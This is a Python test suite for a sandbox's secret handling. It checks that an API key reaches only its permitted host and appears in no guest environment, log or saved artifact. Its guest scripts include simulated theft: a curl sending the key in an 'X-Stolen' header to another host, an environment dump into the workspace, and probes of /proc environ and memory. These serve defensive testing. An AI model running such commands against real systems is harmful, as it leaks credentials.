@@ -1,0 +1,293 @@
+"""Secrets: the host gets the value, the guest and everything that is kept do not."""
+
+import base64
+import html
+import json
+import os
+import quopri
+import resource
+import secrets
+import signal
+import subprocess
+import tempfile
+import time
+import urllib.parse
+
+from clients import bundle, policy, rows, run, said, start_arguments
+
+from harness import kill_and_wait, must
+
+#: Not one alike: a slash, quotes, a plus and an ampersand, so that each escaping spells it differently.
+VALUE = f'k"/+\'&{secrets.token_hex(12)}=end'
+SECOND = f"other{secrets.token_hex(12)}"
+
+
+def forms(value):
+    """Every spelling looked for."""
+    data = value.encode()
+    found = {"raw": data, "reversed": data[::-1], "hex": data.hex().encode(), "url": urllib.parse.quote(value, safe="").encode(),
+             "json": json.dumps(value)[1:-1].encode(), "json-slash": json.dumps(value)[1:-1].replace("/", "\\/").encode(),
+             "uri-component": urllib.parse.quote(value, safe="!~*'()").encode(), "html": html.escape(value).encode(),
+             "quoted-printable": quopri.encodestring(data).strip()}
+    for shift in range(3):
+        whole = base64.b64encode(b"\0" * shift + data)
+        found[f"base64-{shift}"] = whole[4 if shift else 0:][:(len(data) - 3) // 3 * 4 - 4]
+    return found
+
+
+def find(value, places):
+    """Where a spelling of the value stands: `place: form`. A place is a name and bytes."""
+    return [f"{name}: {form}" for name, content in places for form, text in forms(value).items() if text in content]
+
+
+def files(*roots, since=0.0):
+    """Every file: its name, and what it holds unless it is older than `since`."""
+    for root in roots:
+        for directory, _, names in os.walk(root):
+            for name in names:
+                path = os.path.join(directory, name)
+                yield path, path.encode("utf-8", "replace")
+                try:
+                    if os.path.isfile(path) and not os.path.islink(path) and os.stat(path).st_ctime >= since:
+                        with open(path, "rb") as file:
+                            yield path, file.read()
+                except (FileNotFoundError, ProcessLookupError):
+                    # Runs go on meanwhile, of other suites too: what was listed a moment ago may be gone.
+                    continue
+
+
+def family(pid):
+    """The process and everything below it."""
+    children = {}
+    for entry in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            with open(f"/proc/{entry}/stat", encoding="utf-8", errors="replace") as file:
+                children.setdefault(int(file.read().rsplit(")", 1)[1].split()[1]), []).append(int(entry))
+        except OSError:
+            continue
+    queue, found = [pid], []
+    while queue:
+        here = queue.pop()
+        found.append(here)
+        queue += children.get(here, [])
+    return found
+
+
+def elsewhere(pid):
+    """Whether a process has another root than this one; one that has ended meanwhile has none."""
+    try:
+        return not os.path.samestat(os.stat(f"/proc/{pid}/root"), os.stat("/"))
+    except OSError:
+        return False
+
+
+def processes(pids):
+    for pid in pids:
+        for name in ("environ", "cmdline"):
+            try:
+                with open(f"/proc/{pid}/{name}", "rb") as file:
+                    yield f"/proc/{pid}/{name}", file.read()
+            except OSError:
+                continue
+
+
+def during(bench, script, look, *arguments, environment=None, user=()):
+    """Runs a script that asks for /hold, and looks around while the host keeps it waiting."""
+    bench.world.held.clear()
+    bench.world.release.clear()
+    full = start_arguments(bench, script, *arguments)
+    process = subprocess.Popen([*user, bench.environment["CODEBOX"], *full], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+                               stderr=subprocess.PIPE, env={"PATH": "/usr/bin:/bin", **(environment or {})})
+    try:
+        must(bench.world.held.wait(90), "the guest never asked for /hold")
+        seen = look(process)
+    finally:
+        bench.world.release.set()
+    return bench.finish(full, process), seen
+
+
+USE = r"""
+say env sh -c 'echo "$API_KEY" | head -c 8; echo'
+say base web -H "Authorization: Bearer $API_KEY" "$CODEBOX_EGRESS_URL/https/allowed.test/auth"
+say wp $WP get https://allowed.test/wp-auth "$API_KEY"
+say echo sh -c 'curl -sSi -m 20 -H "Authorization: Bearer $API_KEY" "$CODEBOX_EGRESS_URL/https/allowed.test/echo" | tee echo.txt | grep -c "$API_KEY"'
+say json sh -c 'curl -sS -m 20 -H "Authorization: Bearer $API_KEY" "$CODEBOX_EGRESS_URL/https/allowed.test/echo-json" | tee -a echo.txt | head -n 1'
+say away web -H "X-Stolen: $API_KEY" "$CODEBOX_EGRESS_URL/https/other.test/away"
+cat echo.txt; env > /workspace/plugin/environment.txt; cp echo.txt /workspace/plugin/
+say hold web -m 90 "$CODEBOX_EGRESS_URL/https/allowed.test/hold"
+"""
+ALLOW = ["--allow-host", "allowed.test", "--allow-host", "other.test"]
+
+
+def test_the_value_reaches_its_host_and_nothing_else(bench):
+    # The bundles of other suites lie there too, and reading them all takes longer than the guest waits. A file
+    # that this run wrote is younger than it; the clock of files lags behind the other one by up to a tick.
+    began = time.time() - 1
+
+    def look(process):
+        pids = family(process.pid)
+        must(len(pids) >= 5, f"runner, launcher and guest are expected, there are {pids}")
+        control = find(VALUE, processes([process.pid]))
+        # The caller's own process was given the value in its environment by whoever started it.
+        written = list(files(os.path.join(bench.state, "sites"), since=began))
+        must(any(bench.site in name and content != name.encode() for name, content in written), "nothing that this run wrote was read")
+        places = list(processes(pid for pid in pids if pid != process.pid)) + written
+        inside = [pid for pid in pids if elsewhere(pid)]
+        must(inside, "no process of the guest was found")
+        places += guest_files(inside[-1])
+        must(any(b"API_KEY=codebox_" in content for name, content in places if name.endswith("environ")), "the guest was not seen")
+        return find(VALUE, places), control
+
+    answer, (found, control) = during(bench, USE, look, *ALLOW, "--secret-env", "API_KEY=allowed.test", environment={"API_KEY": VALUE})
+    answer.expect(0)
+    must(len(control) == 1 and "environ: raw" in control[0], f"control: the search finds what is there: {control}")
+    must(found == [], f"while it ran: {found}")
+    lines = said(answer)
+    must(lines["env"] == "codebox_", str(lines))
+    for path in ("/auth", "/wp-auth", "/echo", "/echo-json"):
+        requests = bench.world.seen(path=path)
+        must(requests, f"{path} never arrived\n{answer}")
+        sent = requests[-1]["headers"].get("authorization")
+        must(sent == f"Bearer {VALUE}", f"the host of {path} got {sent}")
+    # What the host sends back comes back as the placeholder: in the body, in a header, escaped.
+    must(int(lines["echo"]) >= 2, f"{lines}")
+    stolen = bench.world.seen(path="/away")[-1]["headers"].get("x-stolen")
+    must(stolen.startswith("codebox_"), f"another host got {stolen}")
+    path = bundle(bench, answer)
+    kept = list(files(path, os.path.join(bench.state, "sites", bench.site)))
+    kept += [("stdout", answer.stdout.encode()), ("stderr", answer.stderr.encode())]
+    must(find(VALUE, kept) == [], f"kept: {find(VALUE, kept)}")
+    must(find("API_KEY", kept), "the search looks at nothing")
+    log = rows(bench, answer)
+    must([row["secrets"] for row in log if row["path"] == "/auth"] == [["API_KEY"]], json.dumps(log))
+
+
+STORED = r"""
+say store web -H "Authorization: Bearer $API_KEY" "$CODEBOX_EGRESS_URL/https/allowed.test/store"
+say back sh -c 'curl -sSi -m 20 "$CODEBOX_EGRESS_URL/https/other.test/stored" | tee back.txt | grep -c "$API_KEY"'
+say lines sh -c 'grep -c "^form " back.txt'
+say gzip web "$CODEBOX_EGRESS_URL/https/other.test/stored-gzip"
+cat back.txt
+"""
+
+
+def test_a_value_that_was_stored_at_one_host_is_cleaned_at_another(bench):
+    def written(text):
+        # The search looks for the middle of base64 only; a host sends all of it.
+        whole = {f"base64-{shift}": base64.b64encode(b"\0" * shift + text.encode()) for shift in range(3)}
+        return list({**forms(text), **whole}.values())
+
+    bench.world.stored = written
+    answer, lines = run(bench, STORED, *ALLOW, "--secret-env", "API_KEY=allowed.test", environment={"API_KEY": VALUE})
+    answer.expect(0)
+    must(bench.world.seen(path="/store")[-1]["headers"].get("authorization") == f"Bearer {VALUE}", "control: the value never arrived")
+    sent = len(written(VALUE))
+    must(int(lines["lines"]) == sent, f"control: {sent} spellings were sent back: {lines}")
+    # Each line, and a header.
+    must(int(lines["back"]) == sent + 1, f"{lines}\n{answer}")
+    must(lines["gzip"].startswith("502 ") and "response-encoded" in lines["gzip"], str(lines))
+    kept = list(files(bundle(bench, answer))) + [("stdout", answer.stdout.encode())]
+    must(find(VALUE, kept) == [] and "REDACTED" not in answer.stdout, f"the guest got it: {answer}")
+
+
+def guest_files(pid):
+    """Small files that the guest wrote, through its root."""
+    places = []
+    for root in ("/tmp", "/workspace", "/home", "/run"):
+        places += files(f"/proc/{pid}/root{root}")
+    return places
+
+
+def test_an_exposed_value_is_in_the_guest_and_in_nothing_that_is_kept(bench):
+    document = json.loads(policy(allowHosts=["allowed.test"]))
+    document.update(secrets="connector-scoped", expose_secrets=["API_KEY"])
+    script = r"""
+printf 'raw %s\n' "$API_KEY"; printf %s "$API_KEY" | base64; printf 'x%s' "$API_KEY" | base64; printf 'xy%s' "$API_KEY" | base64
+php -r 'echo json_encode( getenv( "API_KEY" ) ), "\n", rawurlencode( getenv( "API_KEY" ) ), "\n", bin2hex( getenv( "API_KEY" ) ), "\n";'
+head -c 65520 /dev/zero | tr '\0' a; printf '%s' "$API_KEY"; echo
+printf '%s' "$API_KEY" | head -c 10; sleep 0.3; printf '%s\n' "$API_KEY" | tail -c +11
+say hold web -m 90 "$CODEBOX_EGRESS_URL/https/allowed.test/hold"
+"""
+    def look(process):
+        return find(VALUE, processes(pid for pid in family(process.pid) if pid != process.pid))
+
+    answer, seen = during(bench, script, look, "--policy", json.dumps(document), "--secret-env", "API_KEY", environment={"API_KEY": VALUE})
+    answer.expect(0)
+    must(any("environ" in place for place in seen), f"control: the guest's environment holds it: {seen}")
+    kept = list(files(bundle(bench, answer), os.path.join(bench.state, "sites", bench.site))) + [("stdout", answer.stdout.encode())]
+    must(find(VALUE, kept) == [], f"kept: {find(VALUE, kept)}")
+    with open(os.path.join(bundle(bench, answer), "files", "runtime-evidence", "run-attestation.json"), encoding="utf-8") as file:
+        attested = json.load(file)["exposedSecrets"]
+    must(attested == ["API_KEY"], f"the attestation names {attested}")
+    must("[REDACTED:configured-secret-value]" in answer.stdout, str(answer))
+    must(any("API_KEY" in notice and "exposes" in notice for notice in answer.result["notices"]), str(answer.result["notices"]))
+
+
+def test_a_value_in_the_patch_blocks_the_run(bench):
+    document = json.loads(policy(allowHosts=["allowed.test"]))
+    document.update(secrets="connector-scoped", expose_secrets=["API_KEY"])
+    answer, _ = run(bench, 'printf %s "$API_KEY" > /workspace/plugin/key.txt', "--policy", json.dumps(document), "--secret-env", "API_KEY",
+                    environment={"API_KEY": VALUE})
+    answer.expect(3, "wp_codebox_secret_in_patch")
+    kept = list(files(bundle(bench, answer), os.path.join(bench.state, "sites", bench.site))) + [("stdout", answer.stdout.encode())]
+    must(find(VALUE, kept) == [], f"kept: {find(VALUE, kept)}")
+
+
+def test_nobody_of_the_same_user_may_look_into_the_runner(bench):
+    # As the owner from the start: a process that only became it is closed by the kernel anyway.
+    user = ["setpriv", f"--reuid={bench.owner}", f"--regid={bench.owner}", "--clear-groups"]
+    control = subprocess.Popen([*user, "sleep", "60"], env={"API_KEY": VALUE, "PATH": "/usr/bin:/bin"})
+
+    def look(process):
+        runner = next(pid for pid in family(process.pid) if b"supervise" in dict(processes([pid])).get(f"/proc/{pid}/cmdline", b""))
+        answers = {}
+        for name, pid in (("runner", runner), ("command", process.pid), ("control", control.pid)):
+            for file in ("environ", "mem", "maps"):
+                result = subprocess.run([*user, "head", "-c", "1", f"/proc/{pid}/{file}"], capture_output=True, check=False)
+                answers[name, file] = "Permission denied" not in result.stderr.decode()
+        with open(f"/proc/{runner}/limits", encoding="ascii") as file:
+            limit = next(line for line in file if "core file" in line).split()[4]
+        must(limit != "0", "the runner's limit on core files would answer for it")
+        # A core file is written before its process is gone.
+        kill_and_wait(runner, number=signal.SIGABRT)
+        return answers, cores()
+
+    def cores():
+        return [name for name in os.listdir(writable) if name.startswith("core")]
+
+    # Where everybody may write, with room for core files: only the process itself can forbid one.
+    writable, before = tempfile.mkdtemp(dir=bench.directory), os.getcwd()
+    os.chmod(writable, 0o777)
+    os.chdir(writable)
+    hard = resource.getrlimit(resource.RLIMIT_CORE)[1]
+    resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))
+    try:
+        _, (answers, left) = during(bench, 'say hold web -m 90 "$CODEBOX_EGRESS_URL/https/allowed.test/hold"', look, *ALLOW,
+                                     "--secret-env", "API_KEY=allowed.test", environment={"API_KEY": VALUE}, user=user)
+        # Control: the same signal makes a core file of an ordinary process of the same user here.
+        subprocess.run([*user, "sh", "-c", "kill -ABRT $$"], check=False)
+        ordinary = cores()
+    finally:
+        os.chdir(before)
+        control.kill()
+        control.wait()
+    must(not any(answers[name, file] for name in ("runner", "command") for file in ("environ", "mem", "maps")), str(answers))
+    must(all(answers["control", file] for file in ("environ", "maps")), f"control: {answers}")
+    must(left == [], f"the runner left {left}")
+    must(ordinary, "control: no core file of an ordinary process")
+
+
+def test_secrets_need_a_policy_a_host_and_a_variable(bench):
+    environment = {"API_KEY": VALUE}
+    for code, exit_code, flags, variables in [
+        ("wp_codebox_secret_invalid", 1, [*ALLOW, "--secret-env", "API_KEY=elsewhere.test"], environment),
+        ("wp_codebox_secret_invalid", 1, ["--secret-env", "API_KEY=allowed.test"], environment),
+        ("wp_codebox_secret_invalid", 1, [*ALLOW, "--secret-env", "API_KEY=allowed.test"], {}),
+        ("wp_codebox_secret_invalid", 1, [*ALLOW, "--secret-env", "API_KEY"], environment),
+        ("wp_codebox_secret_invalid", 1, [*ALLOW, "--secret-env", "API_KEY=allowed.test"], {"API_KEY": "short"}),
+        ("wp_codebox_secret_invalid", 1, [*ALLOW, "--secret-env", f"{SECOND}=allowed.test"], environment),
+        ("wp_codebox_forbidden", 126, ["--policy", policy(allowHosts=["allowed.test"]), "--secret-env", "API_KEY=allowed.test"], environment),
+    ]:
+        full = start_arguments(bench, "say ran true", *flags)
+        answer = bench.call(*full, environment={"PATH": "/usr/bin:/bin", **variables}).expect(exit_code, code)
+        must(VALUE not in answer.stdout + answer.stderr and SECOND not in answer.stdout + answer.stderr, f"{flags}: quoted")
